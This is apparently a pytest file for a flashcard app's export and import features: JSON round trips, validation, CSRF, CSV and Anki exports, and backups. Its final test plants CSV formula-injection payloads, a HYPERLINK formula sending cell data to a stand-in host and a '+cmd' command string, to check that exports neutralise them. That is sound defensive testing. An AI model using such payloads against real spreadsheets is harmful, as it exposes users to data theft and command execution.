"""Export and import: JSON round trip field by field, matching questions by text, bad files change
nothing, CSRF and size limits, per-user isolation, CSV zip, the Anki package, and `prep backup`."""
from __future__ import annotations

import copy
import csv
import io
import json
import re
import sqlite3
import zipfile
from datetime import timedelta

import pytest
from sqlalchemy import func, select
from werkzeug.test import EnvironBuilder

from prep.content.models import Explanation
from prep.content.render import render_markdown
from prep.drill.models import Card, ReviewLog
from prep.export import dump, restore
from prep.extensions import db
from prep.questions.models import LinkOrigin, Question, QuestionExplanation, Source
from prep.questions.service import add_question
from tests.support.clock import FIXED_NOW
from tests.support.pages import csrf_token_from


def _strip(export: dict) -> dict:
    out = copy.deepcopy(export)
    for key in ("exported_at",):
        out.pop(key)
    out["user"].pop("email")
    out["user"].pop("display_name")
    return out


def test_json_round_trip_restores_every_field(rich_user, make_user, login, app, clock):
    a = app.test_client()
    login(rich_user, a)
    response = a.get("/export/prep-export.json")
    assert response.status_code == 200
    assert "attachment" in response.headers["Content-Disposition"]
    original = json.loads(response.data)
    assert original["format"] == "prep-export" and original["version"] == 1
    assert len(original["cards"]) == 13 and sum(len(c["reviews"]) for c in original["cards"]) > 50

    newcomer = make_user("new@example.com")
    b = app.test_client()
    login(newcomer, b)
    response = b.post("/export/import", data={"file": (io.BytesIO(response.data), "prep-export.json"),
                                              "restore_settings": "y"}, follow_redirects=True)
    assert "Imported 13 cards" in response.get_data(as_text=True)
    again = json.loads(b.get("/export/prep-export.json").data)
    assert _strip(again) == _strip(original)

    # The public questions were matched, the own one re-created as the newcomer's own.
    own = db.session.scalars(select(Question).where(Question.owner_id == newcomer.id)).all()
    assert [q.text for q in own] == ["我自己的问题：NVLink 带宽是多少？"]
    assert sorted(t.name for t in own[0].tags) == ["GPU", "mine"]
    public_a = set(db.session.scalars(select(Card.question_id).where(Card.user_id == rich_user.id)))
    public_b = set(db.session.scalars(select(Card.question_id).where(Card.user_id == newcomer.id)))
    assert len(public_a & public_b) == 12

    # Every review row matches, column by column (ids aside).
    def rows(user):
        stmt = (select(Question.norm, ReviewLog.card_version, ReviewLog.rating, ReviewLog.reviewed_at,
                       ReviewLog.duration_ms, ReviewLog.state_before, ReviewLog.state_after, ReviewLog.kind,
                       ReviewLog.card_before)
                .join(Card, Card.id == ReviewLog.card_id).join(Question, Question.id == Card.question_id)
                .where(ReviewLog.user_id == user.id).order_by(ReviewLog.reviewed_at, Question.norm))
        return [tuple(r) for r in db.session.execute(stmt)]
    assert rows(newcomer) == rows(rich_user)

    # Importing the same file again changes nothing.
    data = json.dumps(original).encode()
    response = b.post("/export/import", data={"file": (io.BytesIO(data), "x.json")}, follow_redirects=True)
    assert "13 already in your study, left unchanged" in response.get_data(as_text=True)
    assert db.session.scalar(select(func.count(Card.id)).where(Card.user_id == newcomer.id)) == 13


def test_settings_kept_when_not_restoring(rich_user, make_user, clock):
    data = dump.build_export(rich_user, FIXED_NOW)
    other = make_user("keep@example.com")
    restore.import_export(other, restore.parse(json.dumps(data).encode(), FIXED_NOW), restore_settings=False)
    db.session.commit()
    assert other.desired_retention == 0.9 and other.fsrs_parameters is None


def _counts():
    return tuple(db.session.scalar(select(func.count(m.id))) for m in (Card, ReviewLog, Question))


@pytest.mark.parametrize("body, message", [
    (b"{not json", "not valid JSON"),
    (b"\xff\xfe\x00", "not UTF-8"),
    (b'{"format": "anki"}', "not a prep export"),
    (b'{"format": "prep-export", "version": 99, "cards": []}', "Unsupported export version"),
])
def test_bad_files_are_refused_with_a_clear_message(make_user, login, client, clock, body, message):
    login(make_user())
    before = _counts()
    response = client.post("/export/import", data={"file": (io.BytesIO(body), "x.json")})
    assert response.status_code == 400
    assert message in response.get_data(as_text=True)
    assert _counts() == before


def test_one_bad_card_imports_nothing(rich_user, make_user, login, client, clock):
    data = dump.build_export(rich_user, FIXED_NOW)
    data["cards"][5]["due"] = "yesterday"
    data["cards"][7]["reviews"][0]["rating"] = 7
    data["user"]["settings"]["timezone"] = "Mars/Olympus"
    newcomer = make_user("new@example.com")
    login(newcomer)
    before = _counts()
    response = client.post("/export/import", data={"file": (io.BytesIO(json.dumps(data).encode()), "x.json")})
    html = response.get_data(as_text=True)
    assert response.status_code == 400
    for problem in ("cards[5].due", "cards[7].reviews[0].rating", "user.settings.timezone"):
        assert problem in html
    assert _counts() == before
    db.session.refresh(newcomer)
    assert newcomer.timezone == "UTC"


def test_import_requires_a_json_file_and_respects_the_size_limit(app, make_user, login, client, clock):
    app.config["MAX_CONTENT_LENGTH"] = 4 * 1024 * 1024  # past the import form's own 2 MB limit
    login(make_user())
    assert "Choose a .json file" in client.post("/export/import", data={}).get_data(as_text=True)
    response = client.post("/export/import", data={"file": (io.BytesIO(b"{}"), "deck.apkg")})
    assert "Only a prep .json export" in response.get_data(as_text=True)
    big = b" " * (2 * 1024 * 1024 + 10)
    before = _counts()
    # Built by hand so the body's temporary file can be closed (the test client leaves it open).
    environ = EnvironBuilder(path="/export/import", method="POST",
                             data={"file": (io.BytesIO(big), "big.json")}).get_environ()
    try:
        response = client.open(environ)
    finally:
        environ["wsgi.input"].close()
    assert response.status_code == 400 and "larger than 2 MB" in response.get_data(as_text=True)
    assert _counts() == before


def test_import_needs_csrf(app, make_user, login, client, clock):
    login(make_user())
    app.config["WTF_CSRF_ENABLED"] = True
    body = json.dumps({"format": "prep-export", "version": 1, "cards": []}).encode()
    assert client.post("/export/import", data={"file": (io.BytesIO(body), "x.json")}).status_code == 400
    token = csrf_token_from(client.get("/export").get_data(as_text=True))
    response = client.post("/export/import", data={"file": (io.BytesIO(body), "x.json"), "csrf_token": token},
                           follow_redirects=True)
    assert "Imported 0 cards" in response.get_data(as_text=True)


def test_exports_are_per_user(rich_user, make_user, login, app, clock):
    other = make_user("other@example.com")
    c = app.test_client()
    login(other, c)
    data = json.loads(c.get("/export/prep-export.json").data)
    assert data["cards"] == [] and data["user"]["email"] == "other@example.com"
    with zipfile.ZipFile(io.BytesIO(c.get("/export/prep-export.zip").data)) as zf:
        assert zf.read("cards.csv").decode("utf-8-sig").count("\n") == 1
    with zipfile.ZipFile(io.BytesIO(c.get("/export/prep.apkg").data)) as zf:
        collection = _collection(zf)
        assert collection.execute("select count(*) from notes").fetchone() == (0,)
    anonymous = app.test_client()
    for url in ("/export", "/export/prep-export.json", "/export/prep-export.zip", "/export/prep.apkg"):
        assert anonymous.get(url).status_code == 302


def test_csv_zip_has_cards_and_reviews(rich_user, login, client, clock):
    login(rich_user)
    response = client.get("/export/prep-export.zip")
    with zipfile.ZipFile(io.BytesIO(response.data)) as zf:
        assert sorted(zf.namelist()) == ["cards.csv", "reviews.csv"]
        cards = list(csv.DictReader(io.StringIO(zf.read("cards.csv").decode("utf-8-sig"))))
        reviews = list(csv.DictReader(io.StringIO(zf.read("reviews.csv").decode("utf-8-sig"))))
    assert len(cards) == 13
    assert len(reviews) == db.session.scalar(select(func.count(ReviewLog.id)).where(ReviewLog.user_id == rich_user.id))
    own = [c for c in cards if c["own_question"] == "1"]
    assert own[0]["question"] == "我自己的问题：NVLink 带宽是多少？" and own[0]["tags"] == "GPU; mine"
    assert {r["rating_name"] for r in reviews} <= {"Again", "Hard", "Good", "Easy"}
    assert [r["reviewed_at"] for r in reviews] == sorted(r["reviewed_at"] for r in reviews)


@pytest.mark.parametrize("path, name", [("/export/prep-export.json", "prep-export-{:%Y%m%d}.json"),
                                         ("/export/prep-export.zip", "prep-export-{:%Y%m%d}.zip"),
                                         ("/export/prep.apkg", "prep-{:%Y%m%d}.apkg")])
def test_the_frozen_clock_reaches_the_export_filename(make_user, login, client, clock, path, name):
    """The export views read the clock when called (they once bound it at import, and a download
    during a frozen-clock test was named with the real date)."""
    user = make_user()
    for days in (0, 400):
        when = clock.shift(timedelta(days=days))
        login(user)  # a fresh session: 400 days is past any session's lifetime
        response = client.get(path)
        assert response.status_code == 200
        assert response.headers["Content-Disposition"] == f'attachment; filename="{name.format(when)}"'


def _collection(zf: zipfile.ZipFile) -> sqlite3.Connection:
    conn = sqlite3.connect(":memory:")
    conn.deserialize(zf.read("collection.anki2"))
    return conn


def test_apkg_is_a_valid_anki_package(rich_user, login, client, clock):
    card = db.session.scalars(select(Card).where(Card.user_id == rich_user.id).order_by(Card.id)).first()
    db.session.add(Explanation(slug="ring-allreduce", lang="en", title="Ring AllReduce",
                               html="<p>Two phases: <strong>reduce-scatter</strong>, then all-gather.</p>"))
    db.session.add(QuestionExplanation(question_id=card.question_id, slug="ring-allreduce", score=1.0,
                                       origin=LinkOrigin.content))
    db.session.commit()
    login(rich_user)
    response = client.get("/export/prep.apkg")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as zf:
        assert "collection.anki2" in zf.namelist() and json.loads(zf.read("media")) == {}
        conn = _collection(zf)
    notes = conn.execute("select flds, tags from notes").fetchall()
    assert len(notes) == 13 and conn.execute("select count(*) from cards").fetchone() == (13,)
    fields = [f.split("\x1f") for f, _ in notes]
    first_text = db.session.get(Question, card.question_id).text
    (mine,) = [f for f in fields if f[0] == first_text]
    assert "<strong>reduce-scatter</strong>" in mine[1] and "Ring AllReduce" in mine[1]
    assert "reduce-scatter then all-gather.<br>第二行" in mine[2]
    assert any("prep_suspended" in t for _, t in notes)
    models = json.loads(conn.execute("select models from col").fetchone()[0])
    assert any(m["name"] == "prep interview question" for m in models.values())


def test_apkg_stands_alone_in_anki_in_the_chosen_language(rich_user, login, client, clock):
    card = db.session.scalars(select(Card).where(Card.user_id == rich_user.id).order_by(Card.id)).first()
    code = render_markdown("See [the tree page](/explanations/tree) and [below](#more).\n\n"
                           "```python\ndef f(x):\n    return x\n```\n").html
    db.session.add(Explanation(slug="ring-allreduce", lang="en", title="Ring AllReduce", html=code))
    db.session.add(Explanation(slug="ring-allreduce", lang="zh", title="环形全归约", html="<p>两个阶段。</p>"))
    db.session.add(QuestionExplanation(question_id=card.question_id, slug="ring-allreduce", score=1.0,
                                       origin=LinkOrigin.content))
    db.session.commit()
    login(rich_user)
    first_text = db.session.get(Question, card.question_id).text

    def back(url: str) -> str:
        with zipfile.ZipFile(io.BytesIO(client.get(url).data)) as zf:
            fields = [f.split("\x1f") for (f,) in _collection(zf).execute("select flds from notes")]
        return next(f[1] for f in fields if f[0] == first_text)

    english = back("/export/prep.apkg?lang=en")
    assert re.search(r'href="https?://[^"/]+/explanations/tree"', english)  # absolute, to this site
    assert 'href="/explanations/tree"' not in english and 'href="#more"' not in english  # nothing breaks in Anki
    assert 'style="color:#' in english and 'class="k"' in english  # code keeps its colours without our CSS
    assert "环形全归约" in back("/export/prep.apkg?lang=zh")
    assert "Ring AllReduce" in back("/export/prep.apkg?lang=xx")  # an unknown choice: the UI language


def test_backup_command(app, runner, rich_user, tmp_path):
    target = tmp_path / "backups" / "prep-backup.sqlite3"
    if db.engine.dialect.name != "sqlite":
        result = runner.invoke(args=["backup", str(target)])
        assert result.exit_code == 2 and "pg_dump" in result.output and not target.exists()
        return
    source = db.engine.url.database
    # Another connection is in the middle of a write: the backup still runs and sees committed data only.
    writer = sqlite3.connect(source, isolation_level=None)
    writer.execute("BEGIN IMMEDIATE")
    writer.execute("UPDATE users SET display_name = 'uncommitted'")
    try:
        result = runner.invoke(args=["backup", str(target)])
    finally:
        writer.execute("ROLLBACK")
        writer.close()
    assert result.exit_code == 0, result.output
    copy_ = sqlite3.connect(target)
    assert copy_.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    reviews = db.session.scalar(select(func.count(ReviewLog.id)))
    assert copy_.execute("select count(*) from review_logs").fetchone() == (reviews,)
    assert copy_.execute("select display_name from users").fetchall() == [("",)]
    copy_.close()
    # The live database itself is refused.
    result = runner.invoke(args=["backup", source])
    assert result.exit_code != 0 and "live database" in result.output


def test_csv_cells_cannot_run_as_formulas(make_user, login, client, clock):
    """A question or note planted as a spreadsheet formula is exported inert."""
    user = make_user("formula@example.com")
    planted = add_question('=HYPERLINK("http://evil.example/?"&A1, "click")', source=Source.user,
                           owner_id=user.id, tags=("@tag",))
    db.session.add(Card(user_id=user.id, question_id=planted.id, due=FIXED_NOW, added_at=FIXED_NOW, note="+cmd|' /C calc'!A0"))
    db.session.commit()
    login(user)
    with zipfile.ZipFile(io.BytesIO(client.get("/export/prep-export.zip").data)) as zf:
        [card] = list(csv.DictReader(io.StringIO(zf.read("cards.csv").decode("utf-8-sig"))))
    assert card["question"].startswith("'=HYPERLINK(") and card["note"].startswith("'+cmd")
    assert card["tags"].startswith("'@tag")
    assert card["stability"] == "" and card["reps"] == "0"  # numbers and empties untouched
